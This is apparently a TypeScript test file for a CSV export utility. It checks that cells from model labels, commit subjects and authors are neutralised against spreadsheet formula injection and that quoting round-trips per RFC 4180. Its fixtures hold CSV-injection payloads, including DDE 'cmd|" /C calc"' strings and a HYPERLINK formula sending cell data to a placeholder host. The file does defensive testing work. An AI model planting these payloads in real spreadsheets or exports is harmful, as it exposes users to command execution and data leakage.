/**
 * The one CSV writer (src/core/util/csv.ts) and the exports that use it: the Compare panel's CSV and the
 * Metric History table. Text from a repository (model labels, commit subjects, authors) must never reach
 * a spreadsheet as a formula (OWASP "CSV injection"), and every cell must come back whole when the CSV is
 * read by an RFC 4180 reader (our own dataset parser here).
 */
import * as assert from 'assert';
import { parseCsvRecords } from '../../src/core/eval/datasetTable';
import { csvCell, toCsv } from '../../src/core/util/csv';
import { renderComparisonCsv, renderExport, type CompareResult } from '../../src/extension/evaluate/viewModel';
import { historyCsv } from '../../src/extension/history/viewModel';
import type { HistoryViewModel } from '../../src/shared/historyProtocol';

const FORMULAS = ['=1+2', '+cmd|" /C calc"!A0', '-2+3+cmd|" /C calc"!A0', '@SUM(A1:A9)', '\t=1+2', '\r=1+2', '=HYPERLINK("http://x.invalid/?"&A1,"click")'];

function compareResult(labels: string[], verdict: string): CompareResult {
  return {
    evaluations: labels.map((label, i) => ({
      label,
      metrics: { accuracy: 0.9 - i / 10, rmse: -0.5 },
      cv: { accuracy: { mean: 0.88, std: 0.01, ci95: [0.86, 0.9] } },
    })),
    pairs: labels.slice(1).map(() => ({ verdict })),
  } as unknown as CompareResult;
}

describe('CSV export', () => {
  it('cells that start like a formula get a leading apostrophe; plain numbers stay numbers', () => {
    for (const f of FORMULAS) assert.ok(csvCell(f).replace(/^"/, '').startsWith(`'${f[0]}`), `${JSON.stringify(f)} → ${csvCell(f)}`);
    assert.strictEqual(csvCell('=1+2'), "'=1+2");
    assert.strictEqual(csvCell('-2+3'), "'-2+3");
    assert.strictEqual(csvCell('- dropout'), "'- dropout");
    for (const n of ['-0.5', '+3', '-1e-9', '42', '.5']) assert.strictEqual(csvCell(n), n);
    assert.strictEqual(csvCell(-0.5), '-0.5');
    assert.strictEqual(csvCell(NaN), '');
    assert.strictEqual(csvCell(Infinity), '');
    assert.strictEqual(csvCell(undefined), '');
    assert.strictEqual(csvCell(null), '');
    assert.strictEqual(csvCell('plain text'), 'plain text');
  });

  it('quotes per RFC 4180, and an RFC 4180 reader gets every cell back', () => {
    assert.strictEqual(csvCell('a,b'), '"a,b"');
    assert.strictEqual(csvCell('say "hi"'), '"say ""hi"""');
    assert.strictEqual(csvCell('two\nlines'), '"two\nlines"');
    assert.strictEqual(csvCell('\r=1+2'), `"'\r=1+2"`);
    const rows = [['label', 'note'], ...FORMULAS.map((f, i) => [`m${i}`, f]), ['x', 'a,"b"\r\nc']];
    const back = parseCsvRecords(toCsv(rows)).records;
    assert.deepStrictEqual(back, rows.map(([a, b]) => [a, FORMULAS.includes(b) ? `'${b}` : b]));
  });

  it('the Compare CSV neutralises model labels that are formulas (it did not), keeps numbers as numbers', () => {
    const csv = renderComparisonCsv(compareResult(['=HYPERLINK("http://x.invalid","click")', '@cmd', 'ok model'], '-better'));
    const recs = parseCsvRecords(csv).records;
    assert.deepStrictEqual(recs[0], ['model', 'metric', 'value', 'resampled_mean', 'resampled_std', 'resampled_ci95_low', 'resampled_ci95_high', 'verdict_vs_baseline']);
    assert.deepStrictEqual(recs[1], [`'=HYPERLINK("http://x.invalid","click")`, 'accuracy', '0.9', '0.88', '0.01', '0.86', '0.9', 'baseline']);
    assert.deepStrictEqual(recs[2], [`'=HYPERLINK("http://x.invalid","click")`, 'rmse', '-0.5', '', '', '', '', 'baseline']);
    assert.deepStrictEqual(recs[3].slice(0, 3).concat(recs[3].slice(7)), ["'@cmd", 'accuracy', '0.8', "'-better"]);
    assert.strictEqual(recs[5][0], 'ok model');
    for (const r of recs) for (const c of r) assert.ok(!/^[=+@\t\r]/.test(c) && !/^-(?![\d.])/.test(c), `a cell starts like a formula: ${JSON.stringify(c)}`);
    assert.strictEqual(renderExport(compareResult(['=x'], ''), 'csv'), renderComparisonCsv(compareResult(['=x'], '')));
  });

  it('the Metric History CSV goes through the same writer', () => {
    const vm = {
      metrics: [{ name: 'accuracy', lowerIsBetter: false, series: [{ id: 's', sourceLabel: 'commit trailer', sourceKind: 'commit', points: [{ x: 0, value: -0.25 }] }] }],
      versions: [{ version: 1, commit: 'abc', shortCommit: 'abc', subject: '=cmd|" /C calc"!A0', author: '@mallory', date: '2026-01-01', dateText: '', tags: ['-t'], aliases: [], latest: true }],
    } as unknown as HistoryViewModel;
    const csv = historyCsv(vm);
    assert.strictEqual(csv, toCsv([
      ['version', 'commit', 'date', 'author', 'subject', 'tags', 'aliases', 'accuracy (commit trailer)'],
      ['v1', 'abc', '2026-01-01', '@mallory', '=cmd|" /C calc"!A0', '-t', '', '-0.25'],
    ]));
    assert.deepStrictEqual(parseCsvRecords(csv).records[1], ['v1', 'abc', '2026-01-01', "'@mallory", `'=cmd|" /C calc"!A0`, "'-t", '', '-0.25']);
  });
});
